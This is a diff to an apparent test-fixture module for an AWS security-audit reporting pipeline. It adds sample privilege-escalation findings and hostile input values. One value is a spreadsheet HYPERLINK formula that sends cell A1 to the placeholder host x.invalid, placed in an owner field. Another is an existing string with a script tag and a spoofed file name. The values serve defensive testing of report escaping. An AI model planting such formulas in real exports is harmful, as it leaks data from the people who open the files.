@@ -11,6 +11,7 @@ from pipeline.catalog import PRACTICES
 
 NIGHTS = [date(2026, 11, 20) + timedelta(days=n) for n in range(5)]
 AS_OF = NIGHTS[-1]
+FORMULA = '=HYPERLINK("https://x.invalid/?"&A1,"Me,\u202e too")'
 HOSTILE = "<script>alert('x')</script> \"R&D\" \u202egnp.exe Zoë 東京"
 NAMES = (
     HOSTILE,
@@ -33,7 +34,7 @@ ACCOUNTS = [
     # id, name, state, ou, owner, environment, read status, reason
     ("111111111111", "management", "ACTIVE", "r-root", "platform", "prod", "read", None),
     ("222222222222", HOSTILE, "ACTIVE", "ou-prod", "R&D <lead>", "prod", "read", None),
-    ("333333333333", "payments", "ACTIVE", "ou-prod", "payments", "prod", "read", None),
+    ("333333333333", "payments", "ACTIVE", "ou-prod", FORMULA, "prod", "read", None),
     (
         "444444444444",
         "locked-away",
@@ -66,6 +67,11 @@ CONTROLS = [
     ("unused_roles", 9, "Unused roles are removed", "low"),
     ("scp_coverage", 13, "Every member account has a service control policy", "high"),
 ]
+GUARDING = [
+    ("scp_objectives", 13, "SCPs meet each objective", "high"),
+    ("rcp_objectives", 13, "RCPs meet each objective", "high"),
+]
+"""Controls whose findings stand in `guardrails` alone."""
 JUDGED = [a for a in ACCOUNTS if a[6] in ("read", "partly read", "not read")]
 
 Finding = dict[str, Any]
@@ -163,6 +169,8 @@ def content(nights: Sequence[date], accounts: Sequence[tuple[Any, ...]], clean: 
         "least_privilege": _least_privilege(as_of, judged),
         "policy_proposals": _policy_proposals(as_of, judged),
         "principals": _principals(judged),
+        "principal_reach": _reach(judged),
+        "principal_escalations": _escalations(judged),
         "credentials": _credentials(judged),
         "guardrails": _guardrails(as_of, judged),
         "key_triage": _keys(judged),
@@ -170,7 +178,7 @@ def content(nights: Sequence[date], accounts: Sequence[tuple[Any, ...]], clean: 
 
 
 def _controls() -> Iterator[Finding]:
-    for n, (control, practice, title, severity) in enumerate(CONTROLS):
+    for n, (control, practice, title, severity) in enumerate([*CONTROLS, *GUARDING]):
         yield {
             "control_id": control,
             "number": f"BP{practice:02d}-{n:02d}",
@@ -315,9 +323,11 @@ def _exceptions(as_of: date) -> Iterator[Finding]:
 
 
 def _least_privilege(as_of: date, judged: Sequence[tuple[Any, ...]]) -> Iterator[Finding]:
-    """A role of every account that was read, and a user of whom nothing is known in the hostile one."""
+    """A role of every account that was read, an unused one where partly read, and a user of whom nothing is known."""
     read = [account[0] for account in judged if account[6] == "read"]
-    for place, account_id in enumerate(read, start=1):
+    idle = {"used_services": 0, "services_in_use": [], "used_percent": 0.0, "last_used_on": None, "has_proposal": False}
+    partly = [(account[0], idle) for account in judged if account[6] == "partly read"]
+    for place, (account_id, more) in enumerate([*((a, {}) for a in read), *partly], start=1):
         yield {
             "place": place,
             "account_id": account_id,
@@ -343,7 +353,7 @@ def _least_privilege(as_of: date, judged: Sequence[tuple[Any, ...]]) -> Iterator
             "weight": 110.5,
             "has_proposal": True,
             "used_days": 90,
-        }
+        } | more
     nothing = dict.fromkeys(("place", "read_on", "granted_services", "used_services", "unused_services", "weight"))
     nothing |= dict.fromkeys(("services_in_use", "services_not_used", "used_percent", "used_actions", "last_used_on"))
     yield nothing | {
@@ -406,6 +416,39 @@ def _principals(judged: Sequence[tuple[Any, ...]]) -> Iterator[Finding]:
                 "has_mfa": n == 0,
                 "active_access_keys": n % 2,
             }
+
+
+def _reach(judged: Sequence[tuple[Any, ...]]) -> Iterator[Finding]:
+    """A user who is an administrator, one who can become one in two steps, and a role that could under conditions."""
+    for account_id, *_, status, _ in judged:
+        arn = f"arn:aws:iam::{account_id}"
+        hops = [
+            {"how": "sts:AssumeRole", "target": f"{arn}:role/person-4"},
+            {"how": "policy-version", "target": f"administrator of {account_id}"},
+        ]
+        for kind, n, is_admin, steps, possible, via in (
+            ("user", 0, "yes", 0, 0, []),
+            ("user", 1, "no", 2, 2, hops),
+            ("user", 2, "no", None, None, []),
+            ("role", 4, "no", None, 1, hops[1:]),
+        ):
+            if status != "not read":
+                yield {
+                    "account_id": account_id,
+                    "principal_type": kind,
+                    "principal_arn": f"{arn}:{kind}/person-{n}",
+                    "is_admin": is_admin,
+                    "steps": steps,
+                    "possible_steps": possible,
+                    "via": json.dumps(via),
+                }
+
+
+def _escalations(judged: Sequence[tuple[Any, ...]]) -> Iterator[Finding]:
+    for account_id, *_ in judged:
+        arn = f"arn:aws:iam::{account_id}:role/person-4"
+        title = "Write a <new> version of a policy"
+        yield {"account_id": account_id, "principal_arn": arn, "path_id": "policy-version", "title": title}
 
 
 def _credentials(judged: Sequence[tuple[Any, ...]]) -> Iterator[Finding]:
